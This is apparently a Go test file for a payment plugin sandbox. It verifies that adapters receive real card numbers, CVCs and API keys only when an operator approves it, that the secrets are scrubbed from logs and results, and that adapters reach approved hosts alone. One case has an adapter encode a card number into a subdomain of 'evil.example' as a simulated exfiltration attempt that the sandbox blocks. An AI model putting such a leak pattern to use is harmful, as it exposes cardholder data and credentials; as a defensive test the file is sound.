package plugins_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/stretchr/testify/require"

	"payswitch/engine/approval"
	"payswitch/engine/port"
	"payswitch/plugins"
	"payswitch/sdk"
)

// revealing drives a scripted adapter to which an operator gave the real secrets.
func revealing(t *testing.T, o plugins.Options, f sdk.Func, change func(d *port.Drive)) (*port.DriveResult, error) {
	t.Helper()
	a := scripted(f)
	o.AllowLoopbackHTTP = true
	n, err := plugins.NewNative(map[string]*sdk.Adapter{"scripted": a}, o)
	require.NoError(t, err)
	info, _ := n.Adapter("scripted")
	d := authorize("scripted", "")
	d.Record = true
	d.Account.Operator = &approval.OperatorDecisions{Approvals: []approval.Approval{{Hash: info.Hash, Reach: approval.ReachOf(info.Manifest), PlainSecrets: true}}}
	change(d)
	return n.Drive(t.Context(), d)
}

// An allowed adapter receives the secrets of that account alone, and they leave only in its own requests.
func TestPlainSecrets(t *testing.T) {
	var got string
	p := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		got = string(body) + r.Header.Get("X-Key")
		_, _ = io.WriteString(w, `{"cvv":"737","pan":"4111 1111 1111 1111","key":"`+secretKey+`","amount":737}`)
	}))
	defer p.Close()
	var seen []string
	adapter := func(c *sdk.Call) (*sdk.Outcome, error) {
		card, key := c.Request.Instrument.Card, c.Account.Credentials["secret_key"]
		seen = []string{card.Number, card.CVC, key}
		r, err := c.Do(&sdk.Send{Method: "POST", URL: p.URL + "/pay?key=" + key, Body: []byte(card.Number + "|" + card.CVC), Headers: []sdk.Header{sdk.H("X-Key", key)}})
		if err != nil {
			return nil, err
		}
		return &sdk.Outcome{Status: sdk.StatusAuthorized, TransactionID: "t-" + card.Number, Raw: map[string]string{"answer": string(r.Body), "cvc": card.CVC, key: "x"},
			ConnectorData: &sdk.ConnectorData{Payment: `{"cvc":"` + card.CVC + `"}`}}, nil
	}
	watch, log := &observer{}, &logged{}
	o := plugins.Options{Observer: watch, Logger: log.logger()}
	var intent port.SendIntent
	at := func(d *port.Drive) {
		d.Account.BaseURL = p.URL
		d.BeforeSend = func(_ context.Context, i port.SendIntent) error { intent = i; return nil }
	}
	res, err := revealing(t, o, adapter, at)
	require.NoError(t, err)
	require.Equal(t, []string{cardNumber, cardCVC, secretKey}, seen)
	require.Equal(t, cardNumber+"|"+cardCVC+secretKey, got, "the request arrives unchanged")
	require.Contains(t, watch.of("revealed"), "revealed scripted")
	require.Empty(t, res.Recordings, "requests with secrets are not recorded")
	require.Equal(t, p.URL+"/pay", intent.URL)
	require.Equal(t, sdk.StatusAuthorized, res.Outcome.Status)
	text := fmt.Sprintf("%+v %s %s %v", *res.Outcome, res.Outcome.ConnectorData.Payment, res.Exchanges[0].Body, res.Violations)
	for _, secret := range []string{cardNumber, "1111 1111 1111", secretKey, `"737"`, "cvc:737"} {
		require.NotContains(t, text, secret)
		require.NotContains(t, log.String(), secret)
	}
	require.Contains(t, string(res.Exchanges[0].Body), `"amount":737`)
	require.Len(t, res.Violations, 2)

	for name, f := range map[string]sdk.Func{
		"error": func(c *sdk.Call) (*sdk.Outcome, error) {
			_, err := c.Do(&sdk.Send{Method: c.Request.Instrument.Card.Number, URL: p.URL + "/" + c.Account.Credentials["secret_key"]})
			return nil, err
		},
		"host": func(c *sdk.Call) (*sdk.Outcome, error) {
			_, err := c.Do(&sdk.Send{Method: "POST", URL: "https://a" + c.Request.Instrument.Card.Number + ".evil.example/"})
			return nil, err
		},
	} {
		res, err := revealing(t, o, f, at)
		require.Error(t, err, name)
		require.Len(t, res.Violations, 1, "an adapter that knows secrets also reaches approved hosts alone")
		require.NotContains(t, err.Error()+res.Violations[0].Place, cardNumber, name)
		require.NotContains(t, err.Error()+res.Violations[0].Place, secretKey, name)
	}
	res, err = revealing(t, o, func(c *sdk.Call) (*sdk.Outcome, error) {
		return nil, &sdk.Reject{Code: sdk.RejectInvalid, Message: "no " + c.Request.Instrument.Card.Number, Parameter: "card"}
	}, at)
	require.NoError(t, err)
	require.NotContains(t, res.Reject.Message, cardNumber)
	require.Contains(t, res.Reject.Message, "no 411111")

	res, err = revealing(t, o, adapter, func(d *port.Drive) { d.RecordOnly = true })
	require.NoError(t, err)
	require.Empty(t, res.Recordings, "no recording after a crash either")

	// With the approval withdrawn the adapter is blind again; another build is not driven at all.
	seen = nil
	_, err = revealing(t, o, adapter, func(d *port.Drive) {
		at(d)
		d.Account.Operator.Approvals[0].PlainSecrets = false
	})
	require.ErrorContains(t, err, "the stand-in of secret_key in the query field key")
	for i, secret := range []string{cardNumber, cardCVC, secretKey} {
		require.NotContains(t, seen[i], secret)
		require.Len(t, seen[i], 28)
	}
	for _, op := range []sdk.Operation{sdk.OpAuthorize, sdk.OpSync} {
		_, err = revealing(t, o, adapter, func(d *port.Drive) {
			at(d)
			d.Operation, d.Account.Operator.Approvals[0].Hash = op, "another build"
		})
		require.ErrorIs(t, err, port.ErrNotApproved)
		require.ErrorContains(t, err, "asks for the secrets themselves (plain_secrets)")
	}
}

// The SDK's message about an undeclared credential reaches the adapter's author whole. The scrubber would take "Secret: the" for a secret.
func TestUndeclaredCredentialIsNamed(t *testing.T) {
	watch := &observer{}
	res, err := native(t, plugins.Options{Observer: watch}, func(c *sdk.Call) (*sdk.Outcome, error) {
		return &sdk.Outcome{Status: sdk.StatusUnknown, Raw: map[string]string{"key": c.Secret("api_kye").Text}}, nil
	}, authorize("scripted", "http://127.0.0.1:1"))
	require.NoError(t, err)
	require.Equal(t, "the manifest declares no credential api_kye, which Call.Secret reads", res.Outcome.Raw["error"])
	require.Empty(t, watch.of("violated"))
}
